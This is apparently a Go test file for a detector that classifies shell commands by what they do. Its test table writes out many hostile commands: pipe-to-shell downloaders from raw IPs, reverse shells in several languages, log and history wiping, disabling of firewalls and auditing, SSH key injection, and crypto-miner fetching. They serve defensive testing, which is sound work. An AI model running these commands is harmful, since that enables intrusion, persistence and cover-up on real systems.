package command

import (
	"encoding/csv"
	"os"
	"strings"
	"testing"
)

func TestText(t *testing.T) {
	const net = Download | RawHost
	for _, c := range []struct {
		text string
		want Act // exactly these
	}{
		{"curl -fsSL https://sh.rustup.rs | sh -s -- -y", Download | PipeToShell},
		{"curl -s http://195.3.146.118/pg.sh | bash > /dev/null 2>&1", net | PipeToShell},
		{"* * * * * root wget -q -O - http://195.3.146.118/pg.sh | sh", net | PipeToShell},
		{"(curl -s http://45.9.148.1/a || wget -qO- http://45.9.148.1/a) | bash -sh", net | PipeToShell},
		{`bash -c "$(curl -fsSL http://45.9.148.1/x)"`, net | PipeToShell},
		{"bash <(wget -qO- https://example.org/x)", Download | PipeToShell},
		{"eval `curl -s https://example.org/x`", Download | PipeToShell},
		{"sh -c 'wget -qU- -O- http://45.9.148.1/x | sh'", net | PipeToShell},
		{"curl -s http://localhost:8080/health | grep ok", Download | LocalHost},
		{"curl -s --unix-socket /run/docker.sock http://docker.sock.example/v1/info", Download | LocalHost},
		{"curl -s file:///opt/x -o /srv/x", 0},
		{"curl -sI https://example.org/", Download | Query},
		{"curl -X POST -d @/etc/hosts https://example.org/hook", Download | Query},
		{"curl -X GET https://example.org/x", Download},
		{"wget -q --spider https://example.org/", Download | Query},
		{"rm -f /srv/f; mkfifo /srv/f; cat /srv/f | sh -i 2>&1 | nc 45.9.148.1 9001 > /srv/f", ReverseShell},
		{"mkfifo s; /bin/sh -i < s 2>&1 | openssl s_client -quiet -connect 45.9.148.1:443 > s", ReverseShell},
		{"rm -f /srv/f;mkfifo /srv/f;cat /srv/f|timeout 2 sh -i 2>&1|timeout 2 ncat 45.9.148.1 8080 >/srv/f", ReverseShell},
		{"timeout 5 sh -c 'curl -s http://45.9.148.1/x | sh'", net | PipeToShell},
		{"sh -i", 0},
		{"nc -z db 5432", 0},
		{`python3 -c "import urllib.request as u;exec(u.urlopen('http://45.9.148.1/x.py').read())"`, net | PipeToShell},
		{`python3 -c "import urllib.request as u;open('/srv/a','wb').write(u.urlopen('http://45.9.148.1/x').read())"`, net},
		{`python3 -c "import requests;print(requests.get('https://example.org/api').json())"`, Download},
		{`python3 -c "import socket;print(socket.gethostname())"`, 0},
		{`python3 -c "import socket,os,pty;s=socket.socket();s.connect(('45.9.148.1',9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')"`, ReverseShell},
		{`perl -e 'use Socket;$i="45.9.148.1";$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, ReverseShell},
		{`php -r '$s=fsockopen("45.9.148.1",9001);proc_open("/bin/sh",[$s,$s,$s],$p);'`, ReverseShell},
		{`node -e "require('http').get('http://localhost:3000/health',r=>process.exit(r.statusCode==200?0:1))"`, Download | LocalHost},
		{`perl -ne 'print if /http:\/\/x/' access.log`, 0},
		{"curl -s http://localhost:8080/metrics | python3 -m json.tool", Download | LocalHost},
		{"curl -o /tmp/x http://45.9.148.1/x; chmod +x /tmp/x; /tmp/x &", net | Executable | RunWritable},
		{
			"wget http://45.9.148.1/a -O /var/tmp/.gt_sys_health && chmod 777 /var/tmp/.gt_sys_health && nohup /var/tmp/.gt_sys_health >/dev/null 2>&1 &",
			net | Executable | RunWritable | RunHidden,
		},
		{"echo ZWNobwo= | base64 -d | sh", DecodeToRun},
		{"echo ZWNobwo= | base64 -d > /etc/issue", 0},
		{"setenforce 0; ufw disable; iptables -F", Defence},
		{"iptables -P INPUT ACCEPT", Defence},
		{"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", 0},
		{"systemctl stop firewalld", Defence},
		{"service auditd stop", Audit},
		{"auditctl -e 0", Audit},
		{"systemctl restart nginx; systemctl stop postgresql", 0},
		{"history -c", History},
		{"unset HISTFILE", History},
		{"rm -rf ~/.bash_history", History},
		{"ln -sf /dev/null /root/.bash_history", History},
		{"rm -rf /var/log/*", Logs},
		{"> /var/log/wtmp", Logs},
		{"echo > /var/log/secure", Logs},
		{"cat /dev/null > /var/log/lastlog", Logs},
		{"echo '0' >/proc/sys/kernel/nmi_watchdog", Tuning},
		{"echo 'kernel.nmi_watchdog=0' >>/etc/sysctl.conf", Tuning},
		{"sysctl -w vm.nr_hugepages=1280", Tuning},
		{"sysctl vm.nr_hugepages", 0},
		{"modprobe msr allow_writes=on", Tuning},
		{"chattr -i /etc/crontab", Immutable},
		{"chattr +i /etc/ld.so.preload", Immutable},
		{"chattr +C /var/lib/images", 0},
		{"crontab -l | sed '/update.sh/d' | crontab -", Crontab},
		{"crontab -l 2>/dev/null", 0},
		{"crontab -e", 0},
		{"echo /usr/local/lib/x.so >/etc/ld.so.preload", Preload},
		{"echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys", Keys},
		{"echo k | tee -a /root/.ssh/authorized_keys", Keys},
		{"pkill -f xmrig", Kill | Rival},
		{"ps aux | grep kinsing | grep -v grep | awk '{print $2}' | xargs -I % kill -9 %", Kill | Rival},
		{"netstat -antp | grep ':3333' | awk '{print $7}' | xargs kill -9", Kill | Rival},
		{"kill -HUP 1234", 0},
		{"kill $(pgrep nginx)", Kill},
		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ReverseShell},
		{"wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz", Download | MinerFetch},
		{"curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s 44AF", Download | MinerFetch | PipeToShell},
		{"git clone https://github.com/xmrig/xmrig.git", MinerSource},
		{"grep -r stratum+tcp:// /etc/suricata/rules", 0},
		{"sh -c 'curl -fsS https://hc-ping.com/0'", Download},
		{"vi stratum+tcp://x:1", 0},
		{"pgpool -n", 0},
		{"ssh -o StrictHostKeyChecking=no -p 22 -u x host", 0},
		{"mysql -u user -p x --pool 5", 0},
		{"curl -o f -u user:pass -k https://example.org/f", Download},
		{"/usr/bin/certbot -q renew --no-random-sleep-on-renew", 0},
		{"30 7 * * * root [ -x /etc/init.d/anacron ] && if [ ! -d /run/systemd/system ]; then /usr/sbin/invoke-rc.d anacron start >/dev/null; fi", 0},
		{"", 0},
		{"$(", 0},
		{"`", 0},
		{"'", 0},
		{"))))", 0},
		{">", 0},
	} {
		f := Text(c.text)
		if f.Acts != c.want {
			t.Errorf("Text(%q) = %b, want %b", c.text, f.Acts, c.want)
		}
		if c.want != 0 && f.Note(c.want) == "" {
			t.Errorf("Text(%q): no note", c.text)
		}
	}
}

func TestOutput(t *testing.T) {
	for text, want := range map[string]string{
		"curl -sSLo /tmp/a https://example.org/b":     "/tmp/a",
		"curl -O https://example.org/dir/b":           "b",
		"wget https://example.org/dir/b":              "b",
		"wget -q https://example.org/b -O /dev/shm/x": "/dev/shm/x",
		"wget -qO /dev/shm/x https://example.org/b":   "/dev/shm/x",
		"curl https://example.org/b > /tmp/c":         "/tmp/c",
		"wget -qO- https://example.org/b":             "",
		"wget --output-document=/tmp/z example.org/b": "/tmp/z",
		"curl -A Mozilla/5.0 -s http://example.org/b": "",
	} {
		f := Text(text)
		if got := strings.TrimSuffix(f.Output, "-"); got != want || f.URL == "" {
			t.Errorf("Text(%q): output %q of %q, want %q", text, got, f.URL, want)
		}
	}
}

// The collected lines: real miner start lines, lines of published droppers, unit and cron lines of Debian packages.
func TestCollected(t *testing.T) {
	file, err := os.Open("../../../shared/data/artefacts/lines.csv")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	defer file.Close()
	rows, err := csv.NewReader(file).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	counts := map[string][2]int{}
	for _, row := range rows[1:] {
		kind, text, label := row[0], row[1], row[2]
		if kind == "package_name" {
			continue
		}
		text = strings.TrimPrefix(text, "ExecStart=")
		f := Text(text)
		n := counts[label]
		n[1]++
		switch {
		case label == "miner" && f.Acts.Has(Miner), label == "malicious" && f.Acts != 0, label == "benign" && f.Acts == 0:
			n[0]++
		default:
			t.Logf("%s: %q = %b", label, text, f.Acts)
		}
		counts[label] = n
	}
	for label, least := range map[string]int{"miner": 13, "malicious": 45, "benign": 67} {
		if n := counts[label]; n[0] < least {
			t.Errorf("%s: %d of %d lines judged right, want at least %d", label, n[0], n[1], least)
		}
	}
}

func FuzzText(f *testing.F) {
	f.Add("curl -s http://1.2.3.4/`a|b`$(c \"$(d)\" 'e') | sh -c \"f\" > /tmp/x && (g; h) &")
	f.Fuzz(func(t *testing.T, text string) {
		facts := Text(text)
		Args(strings.Fields(text))
		if facts.Acts != 0 && facts.Note(facts.Acts) == "" && facts.n > 0 {
			t.Skip("an empty line was noted")
		}
	})
}

func BenchmarkTextHonest(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		Text("/usr/bin/convert /var/www/html/in.png -resize 100x100 /var/www/html/out.png 2>/dev/null")
	}
}

func BenchmarkArgsHonest(b *testing.B) {
	args := []string{"gcc", "-O2", "-Wall", "-c", "-o", "foo.o", "foo.c", "-I/usr/include", "-DNDEBUG"}
	b.ReportAllocs()
	for b.Loop() {
		Args(args)
	}
}
